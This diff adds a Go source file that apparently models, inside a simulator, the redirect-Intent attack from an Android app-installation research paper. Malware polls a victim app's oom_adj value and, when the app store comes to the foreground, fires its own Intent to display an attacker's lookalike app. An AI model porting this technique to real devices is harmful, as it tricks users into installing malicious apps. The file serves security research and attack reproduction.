@@ -1,0 +1,112 @@
+package attack
+
+import (
+	"fmt"
+	"time"
+
+	"github.com/ghost-installer/gia/internal/intents"
+	"github.com/ghost-installer/gia/internal/procfs"
+	"github.com/ghost-installer/gia/internal/sim"
+)
+
+// Redirect is the redirect-Intent attack of Section III-D. The background
+// malware polls /proc/<pid>/oom_adj of a victim app (e.g. Facebook). The
+// moment the victim leaves the foreground — because it just sent the user
+// to an appstore to install a companion app — the malware fires its own
+// Intent at the same store activity, repainting the screen with a lookalike
+// app before the user perceives the first one.
+type RedirectConfig struct {
+	// VictimPkg is the app whose redirection is hijacked (Facebook).
+	VictimPkg string
+	// StorePkg/StoreActivity identify the installer UI (Google Play's
+	// AppDetails).
+	StorePkg      string
+	StoreActivity string
+	// LookalikeAppID is the attacker's repackaged/similar app published
+	// on the store, shown instead of the legitimate one.
+	LookalikeAppID string
+	// PollInterval is the oom_adj polling cadence.
+	PollInterval time.Duration
+}
+
+// Redirect is a running redirect-Intent attack.
+type Redirect struct {
+	mal    *Malware
+	cfg    RedirectConfig
+	ticker *sim.Ticker
+
+	sawForeground bool
+	fired         int
+	lastErr       error
+}
+
+// NewRedirect prepares the attack.
+func NewRedirect(mal *Malware, cfg RedirectConfig) *Redirect {
+	if cfg.PollInterval <= 0 {
+		cfg.PollInterval = 20 * time.Millisecond
+	}
+	return &Redirect{mal: mal, cfg: cfg}
+}
+
+// Fired reports how many racing Intents the malware has sent.
+func (a *Redirect) Fired() int { return a.fired }
+
+// LastErr reports the last send failure, if any.
+func (a *Redirect) LastErr() error { return a.lastErr }
+
+// Launch starts the oom_adj poller.
+func (a *Redirect) Launch() error {
+	pid, err := a.mal.Dev.Procs.PIDOf(a.cfg.VictimPkg)
+	if err != nil {
+		return fmt.Errorf("attack: victim process: %w", err)
+	}
+	a.ticker = sim.NewTicker(a.mal.Dev.Sched, a.cfg.PollInterval, func(time.Duration) bool {
+		adj, err := a.mal.Dev.Procs.OOMAdj(pid)
+		if err != nil {
+			return false // victim died
+		}
+		if adj == procfs.OOMForeground {
+			a.sawForeground = true
+			return true
+		}
+		// The victim just left the foreground: if the store took its
+		// place, the legitimate redirection is in flight — fire ours.
+		if !a.sawForeground {
+			return true
+		}
+		a.sawForeground = false
+		if fg, ok := a.mal.Dev.Procs.Foreground(); !ok || fg != a.cfg.StorePkg {
+			return true
+		}
+		a.fired++
+		a.lastErr = a.mal.Dev.AMS.StartActivity(a.mal.Name(), intents.Intent{
+			TargetPkg: a.cfg.StorePkg,
+			Component: a.cfg.StoreActivity,
+			Extras:    map[string]string{"appId": a.cfg.LookalikeAppID},
+		})
+		return true
+	})
+	return nil
+}
+
+// Stop disarms the poller.
+func (a *Redirect) Stop() {
+	if a.ticker != nil {
+		a.ticker.Stop()
+	}
+}
+
+// Succeeded reports whether, at perception time, the store screen shows the
+// attacker's lookalike app instead of what the victim app requested.
+func (a *Redirect) Succeeded() bool {
+	s := a.mal.Dev.AMS.Screen()
+	return s.Pkg == a.cfg.StorePkg && s.Content ==
+		fmt.Sprintf("%s:details:%s", storeLabel(a.mal, a.cfg.StorePkg), a.cfg.LookalikeAppID)
+}
+
+func storeLabel(mal *Malware, pkg string) string {
+	if p, ok := mal.Dev.PMS.Installed(pkg); ok {
+		return p.Manifest.Label
+	}
+	return pkg
+}
